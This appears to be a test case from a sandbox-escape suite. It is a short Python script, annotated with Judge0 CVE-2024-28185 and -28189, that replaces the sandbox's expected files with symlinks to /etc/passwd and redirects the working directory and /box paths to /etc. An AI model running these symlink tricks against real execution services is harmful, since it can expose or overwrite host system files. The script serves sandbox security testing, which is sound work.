#: family = "files"
#: idea = "Links and pipes where an agent might write or read next (Judge0, CVE-2024-28185 and -28189)."
#: ends = ["exited"]
#: again = true
#: says = "untouched"
import os

here = os.getcwd()
if sorted(os.listdir(".")) != ["main.py"] or os.path.islink("main.py"):
    print("ESCAPED: an earlier run shows", os.listdir("."))
for name in ("main.py", "main", "stdin", "stdout", "a.out", "main.o", "core"):
    try:
        os.unlink(name)
    except OSError:
        pass
    os.symlink("/etc/passwd", name)
os.chmod(here, 0o777)
try:
    os.rename(here, f"{here}.moved")
    os.symlink("/etc", here)
except OSError:
    pass
for number in range(8):
    try:
        os.symlink("/etc", f"/box/{number}")
        os.mkdir(f"/box/{number}")
    except OSError:
        pass
print("untouched")
